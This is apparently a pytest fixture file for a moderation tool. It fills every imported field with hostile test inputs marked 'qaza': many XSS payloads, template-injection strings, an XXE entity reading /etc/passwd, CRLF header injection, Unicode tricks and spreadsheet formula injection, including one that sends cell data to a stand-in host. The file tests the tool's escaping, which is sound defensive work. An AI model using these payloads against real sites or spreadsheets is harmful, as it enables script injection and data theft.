"""A home in which everything that comes from outside attacks: posts, websites, fact-checks, lists, rules, what people are asked to judge.

Each attack carries a mark: in whatever it would add to a page (elements, attributes, addresses) and in what a script of it would say.
"""

import contextlib
import fcntl
import io
import json
import os
import shutil
import sys
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import workbench_home as plain

from bastau.cli import main
from bastau.collect.visits import Found
from bastau.desk import Desk
from bastau.home import Home
from bastau.known_lists.commands import ListOptions
from bastau.known_lists.commands import add as add_list
from bastau.publishing import publish_due
from bastau.review.acts import Act, Answered, Appealed, Convened, Evidence, Ground, Withdrawn
from bastau.rule_trial import Difference, Trial, candidates, keep, sha256_of
from bastau.shield.commands import default_key
from bastau.shield.signing import make_key
from bastau.urls import canonical_url
from bastau.watching import open_store

sys.path.append(str(Path(__file__).parents[2] / "unit" / "review"))
from review_cases import ALWAYS, LEFT, NEVER, code, judged, opened, released, subject, suggestion, verdict, who

MARK = "qaza"
RAN = "console.log('qaza ran')"

MARKUP = (
    f"<script>{RAN}</script>",
    "<script src=//qaza.example/a.js></script>",
    f"<ScRiPt/qaza>{RAN}//</sCrIpT >",
    f"</script><script>{RAN}</script>",
    f'<img src=x qaza onerror="{RAN}">',
    "<img/src='https://qaza.example/pixel.png'/qaza>",
    f"\"'><svg qaza onload=\"{RAN}\">",
    f"<svg><script xlink:href=//qaza.example/a.js>{RAN}</script></svg>",
    f"<svg><animate qaza attributeName=x onbegin=\"{RAN}\" dur=1s></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='q' xmlns='http://www.w3.org/2000/svg'><script>{RAN}</script></svg>#q\" qaza></use></svg>",
    f"<svg><foreignObject><body qaza onload=\"{RAN}\"></foreignObject></svg>",
    f"<svg><a qaza href=\"javascript:{RAN}\"><text y=9>a</text></a></svg>",
    f"<math qaza><mtext></form><form><mglyph><style></math><img src qaza onerror=\"{RAN}\">",
    f"<math><annotation-xml encoding=text/html><img src=x qaza onerror=\"{RAN}\"></annotation-xml></math>",
    f"<noscript><p title=\"</noscript><img src=x qaza onerror='{RAN}'>\">",
    f"</title></style></textarea></noscript><iframe qaza srcdoc=\"<script>{RAN}</script>\">",
    f"</textarea><input qaza autofocus onfocus=\"{RAN}\">",
    f"</option></select><select qaza autofocus onfocus=\"{RAN}\">",
    f"</details></summary><details qaza open ontoggle=\"{RAN}\">",
    f"</td></tr></table><marquee qaza onstart=\"{RAN}\">",
    "--><b qaza>comment",
    f"<!--><img src=x qaza onerror=\"{RAN}\">-->",
    f"<![CDATA[><img src=x qaza onerror=\"{RAN}\">]]>",
    "<?xml><b qaza><?",
    f"<object qaza data=\"javascript:{RAN}\"></object><embed qaza src=//qaza.example/e>",
    "<meta qaza http-equiv=refresh content='0;url=https://qaza.example/'>",
    "<base qaza href=https://qaza.example/>",
    "<link qaza rel=stylesheet href=https://qaza.example/x.css>",
    "<style qaza>body{background:url(//qaza.example/b)}</style>",
    "<form qaza action=https://qaza.example/><button qaza formaction=//qaza.example/>a</button>",
    f"<video qaza poster=//qaza.example/p><source onerror=\"{RAN}\"></video>",
    "<a qaza href=//qaza.example ping=//qaza.example/p>a</a>",
    "<qaza-element is=qaza>a</qaza-element>",
    f"<template qaza><script>{RAN}</script></template>",
    "<b qaza id=main>clobbered</b><form name=body qaza>",
    "<dialog qaza open>Your session is over: <input name=password></dialog>",
)  # fmt: skip
ATTRIBUTES = (
    f'" qaza onmouseover="{RAN}" x="',
    f"' qaza onfocus='{RAN}' autofocus x='",
    f"x qaza onclick={RAN} ",
    f"` qaza onfocus={RAN} `",
    '"/><b qaza>a</b>',
    "\\\" qaza=\\\"",
    f"&quot; qaza onfocus=&quot;{RAN}",
    "&#34;&#62;&#60;b qaza&#62;",
    "%22%3E%3Cb qaza%3E",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RAN}//qaza",
    f"JaVaScRiPt:{RAN}//qaza",
    f"java\tscript:{RAN}//qaza",
    f"\x01javascript:{RAN}//qaza",
    f"&#106;avascript:{RAN}//qaza",
    f"data:text/html,<script>{RAN}</script>qaza",
    "vbscript:qaza",
    "//qaza.example/no-scheme",
    f"https://qaza.example/\" qaza onclick=\"{RAN}",
    "https://news.example@qaza.example/'><b qaza>",
    "blob:https://qaza.example/1",
    "https://qaza.example/?a=1&lt=2&quot;><b qaza>",
)  # fmt: skip
ODD = (
    "{{ request.user.password }}{% csrf_token %}{# qaza #}{% debug %}",
    "{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>{{7*7}} qaza",
    "qaza {account.password} {locale} {0} {n:>9999999}",
    "expression(qaza);}body{display:none}/*",
    "\u202e\u2066txt.exe qaza\u2069 \u202dgnp.<b qaza>",
    "\u200b\u200e\ufeff<\u200bscript>qaza\ufdd0\uffff",
    "＜script＞qaza＜/script＞ ʺ onfocus=qaza ‹b qaza›",
    "a\x00<b\x00 qaza>\x00<scr\x00ipt>qaza",
    "\U0001f600<b qaza>\U000e0001\U0010ffff",
    "a\u0301\u0489" * 60 + "<b qaza>",
    '{"qaza": "</script><b qaza>", "a": [1, "\\u003cb qaza\\u003e"]}',
    "]]></data><data key='qaza'><b/>&qaza;<!ENTITY qaza SYSTEM 'file:///etc/passwd'>",
    "qaza\r\nSet-Cookie: qaza=1\r\n\r\n<b qaza>",
    "qaza\u2028<b qaza>\u2029\x85\x0b\x0c\x1b[2J\x1b]0;qaza\x07",
)  # fmt: skip
CELLS = (
    "=cmd|' /C calc'!A0 qaza",
    "+qaza(1)",
    "-2+3+qaza",
    "@SUM(1+1)*qaza",
    "\t=qaza()",
    "\r=qaza()",
    "\n=qaza()",
    "＝qaza()",
    '=HYPERLINK("https://qaza.example/?"&A1,"qaza")',
    '",=qaza(),"',
    ";=qaza();",
)
PAYLOADS = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *ODD, *CELLS)


SETTINGS = """
[shield]
name = {0}
publisher = {1}
appeal = "https://lists.example/appeal"
policy = "https://lists.example/policy"
licence = {2}
"""
RULE = """
rules:
  - id: qaza-burning
    version: 3
    act: threaten
    author: {0}
    legal_ground: {1}
    note: {2}
    status: live
    frames:
      - slots:
          vow: {{any: violence, mood: vow}}
          target: {{any: target}}
        same: sentence
        without: game
        languages: en
    must_hit:
      - {{en: "We will burn your market."}}
    must_not_hit:
      - {{en: "They wrote: we will burn your market."}}
"""


def payload(number: int) -> str:
    return PAYLOADS[number % len(PAYLOADS)]


def _posts() -> Iterator[dict[str, object]]:
    """Each field of a post with an attack of its own; each text twice, so that there are narratives of them."""
    for i, text in enumerate(PAYLOADS):
        for k in range(2):
            at = plain.START + timedelta(minutes=600 + 7 * i + 3 * k)
            told = " ".join(
                f"{word}{i}" for word in ("market", "prices", "rise", "again", "this", "week", "said", "they")
            )
            yield {
                "post_id": f"web:hostile-{k}-{i}{payload(i + 7) if k else ''}",
                "platform": "web",
                "source": f"site-{(i + k) % 23}.example",
                "source_kind": "website",
                "source_name": payload((i + k) % 23 + 40),
                "published_at": at.isoformat(),
                "url": f"https://site-{i % 23}.example/{i}" if k else payload(i + 11),
                "title": payload(i + 3),
                "text": f"{text} {told} {text}",
                "links": [payload(i + 5), f"https://shared.example/{i // 4}?q={text}"],
                "media": [{"url": payload(i + 9)}],
                "forwarded_from": payload(i + 13),
                "language": payload(i + 17) if i % 9 == 0 else "en",
            }  # fmt: skip


def _claims() -> Iterator[dict[str, object]]:
    for i, text in enumerate(PAYLOADS[::5]):
        yield {
            "claim_id": f"https://check.example/{i}{text}", "text": f"{plain.STORY} {text}" if i % 2 else f"{text} prices{i} rise market{i} again",
            "title": payload(i + 1), "publisher": payload(i + 2), "verdict": payload(i + 3),
            "url": payload(i + 4) if i % 2 else f"https://check.example/{i}?{payload(i + 4)}",
            "language": "en", "published_at": "2024-04-30",
        }  # fmt: skip


def _pages() -> Iterator[dict[str, object]]:
    ads = "\n".join(f"ads.example, pub-4400{i}{text}, DIRECT" for i, text in enumerate(PAYLOADS))
    for domain in ("one-qaza.example", "two-qaza.example", "site-1.example", "site-2.example"):
        for i in range(3):
            yield {
                "domain": domain, "url": f"https://{domain}/{i}?{payload(i)}", "fetched_at": "2024-05-01T00:00:00Z",
                "html": f"<script>gtag('config', 'G-4XK2PQ9RTZ')</script><title>{payload(i)}</title>" + "".join(PAYLOADS),
                "ads_txt": ads, "headers": {"server": payload(i), payload(i + 1): payload(i + 2)}, "ip": "203.0.113.9",
                "nameservers": ["ns1.holding.example", payload(i + 3)], "cert_sans": [domain, payload(i + 4)],
            }  # fmt: skip
    for i in range(20):
        yield {
            "domain": f"stranger{i}.example", "url": f"https://stranger{i}.example/", "fetched_at": "2024-05-01T00:00:00Z",
            "html": "", "nameservers": [f"ns1.own{i}.example"],
        }  # fmt: skip


def bastau(*arguments: str | Path, code: int = 0) -> str:
    """Run a command in this process; return what it said."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        got = main([str(argument) for argument in arguments])
    assert got == code, out.getvalue()
    return out.getvalue()


def _write(path: Path, rows: Iterator[dict[str, object]]) -> Path:
    path.write_text("\n".join(map(json.dumps, rows)), "ascii")
    return path


def _settings(folder: Path) -> None:
    quoted = [json.dumps(clean(payload(i)), ensure_ascii=False) for i in (6, 2, 37)]
    (folder / "rules").mkdir(parents=True)
    (folder / "bastau.toml").write_text(SETTINGS.format(*quoted), "utf-8")
    (folder / "rules" / "own.yaml").write_text(RULE.format(*quoted), "utf-8")
    (folder / "rules-shadow").mkdir()
    (folder / "rules-shadow" / "<b qaza>'\" onfocus=qaza.yaml").write_text(RULE.format(*quoted), "utf-8")


def clean(text: str) -> str:
    """Return the text without what TOML and YAML refuse."""
    return "".join(c for c in text if c.isprintable())


def _watch(home: Home) -> None:
    found = [
        Found("feed", f"https://site-{i}.example/{'' if i % 2 else text}feed.xml", f"site-{i}.example", text, text)
        for i, text in enumerate(PAYLOADS)
    ]
    with open_store(home) as store:
        store.add(found, options={}, priority=0, now=plain.START.timestamp())


def _lists(home: Home, folder: Path) -> None:
    (folder / "known.csv").write_text("signal,value\nmd5," + "a" * 32 + "\n")
    for name, i in (("qaza-list", 4), ("other", 30)):
        options = ListOptions(publisher=payload(i), ground=payload(i + 6), is_negative=name == "other")
        add_list(home, str(folder / "known.csv"), name, options, now=NOW)


def _tried(home: Home) -> None:
    """What a trial of the candidate came to: its words are those of rule files and of protected texts."""
    keys = [row[0] for row in home.connect().execute("select post_key from posts order by post_key").fetchall()]
    rules = tuple(
        Difference(text, payload(i + 1), payload(i + 2), payload(i + 3), 5, 6, 4, 1, tuple(keys[i : i + 2]), tuple(keys[i + 2 : i + 3]))
        for i, text in enumerate(PAYLOADS)
    )  # fmt: skip
    [name] = candidates(home)
    keep(home, Trial(name, sha256_of(home, name), NOW, len(keys), plain.START, NOW, True, PAYLOADS, rules))


NOW = datetime.now(UTC) - timedelta(days=1)
STATES = (
    "waiting",
    "second",
    "disputed",
    "panel",
    "left",
    "listed",
    "released",
    "whole",
    "appealed",
    "kept",
    "overturned",
    "withdrawn",
)


def case_address(state: str) -> str:
    i = STATES.index(state)
    address = canonical_url(f"https://{state}.example/{i}?q={payload(3 * i)}")
    assert address is not None
    return address


def _review(home: Home) -> None:
    """A case in each state; its words are attacks too."""
    desk, minutes = Desk(home), iter(range(10_000))

    def act(made: Act) -> None:
        desk.act(lambda _book: made, NOW + timedelta(minutes=next(minutes)))

    for i, state in enumerate(STATES):
        is_host = state == "whole"
        of = subject("host", "whole-qaza.example") if is_host else subject(value=case_address(state))
        begun = opened(of, suggestion(rule=f"{payload(4 * i)}@1", model=payload(4 * i + 1)))
        begun = replace(begun, data_version=payload(i), evidence=(Evidence("a" * 64, payload(4 * i + 2)),))
        act(begun)
        said = verdict(
            reason=f"It calls for killing. {payload(5 * i)}",
            ground=Ground("law", f"Article 1 {payload(5 * i + 1)}"),
            exemption_checked=f"Nothing of that kind here. {payload(5 * i + 2)}",
        )

        def case(begun=begun):  # type: ignore[no-untyped-def]
            return desk.book().cases[begun.case]

        def give(name: str, given=said, rates=NEVER, seat=None, case=case) -> None:  # type: ignore[no-untyped-def]
            act(judged(case(), who(name), given, rates, seat))

        if state == "waiting":
            continue
        if state == "left":
            give("aigul", replace(LEFT, reason=f"It is a report. {payload(i)}"))
            continue
        give("aigul", rates=ALWAYS if state in ("second", "disputed", "panel") else NEVER)
        if state in ("disputed", "panel"):
            give("bolat", LEFT)
        if state == "panel":
            act(Convened(case().case, who("dana"), ("law", "religion", "sociology")))
            give("erlan", seat="law")
        if state in ("second", "disputed", "panel", "listed"):
            continue
        facts = f"It was public on that day. {payload(6 * i)}"
        whole = f"All of it is for that. {payload(6 * i + 1)} ".ljust(100, "x") if is_host else ""
        details = {"facts": facts, "whole_argument": whole, "ground_url": f"https://law.example/{payload(i)}"}
        act(released(case(), who("bolat", "publisher"), NOW, number=i, **details))
        if state in ("appealed", "kept", "overturned"):
            act(Appealed(case().case, code(i), f"{i:064x}"))
        if state in ("kept", "overturned"):
            n = next(entry.appeal.n for entry in case().entries if entry.appeal is not None)
            reason = f"The appeal is right or not. {payload(7 * i)}"
            act(Answered(case().case, who("farida"), n, state == "overturned", reason))
        if state == "withdrawn":
            reason = f"It was a mistake. {payload(8 * i)}"
            act(Withdrawn(case().case, who("bolat", "publisher"), "withdrawn", reason))


def add_review(home: Home) -> None:
    """Fill the log of review, make a key and publish the list."""
    if not (home.folder / "bastau.toml").exists():
        _settings(home.folder)
        home = Home.open(home.folder)
    _review(home)
    make_key(default_key(home))
    assert publish_due(home, datetime.now(UTC)) is not None


def _make(folder: Path) -> None:
    """Bring everything into a home in ``folder`` and process it."""
    home = folder / "home"
    _settings(home)
    for name, make in (("plain", plain._posts), ("hostile", _posts), ("claims", _claims), ("pages", _pages)):
        _write(folder / f"{name}.ndjson", make())
    opened_home = Home.open(home)
    _lists(opened_home, folder)
    bastau("import", folder / "plain.ndjson", folder / "hostile.ndjson", folder / "pages.ndjson", "--home", home)
    bastau("import", "--claims", folder / "claims.ndjson", "--home", home)
    bastau("run", "--home", home)
    _watch(opened_home)
    _tried(opened_home)
    add_review(opened_home)


def make_home(folder: Path, shared: Path) -> Home:
    """Return a home of one's own in ``folder``; it is made once in ``shared`` and copied, since that takes a while."""
    shared.mkdir(parents=True, exist_ok=True)
    with (shared / "lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not (shared / "made").exists():
            _make(shared)
            (shared / "made").touch()
    shutil.copytree(shared / "home", folder / "home")
    return Home.open(folder / "home")


def shared_folder(factory: pytest.TempPathFactory) -> Path:
    """Return where all workers of a test run share what is made once."""
    base = factory.getbasetemp()
    return (base.parent if "PYTEST_XDIST_WORKER" in os.environ else base) / "hostile"
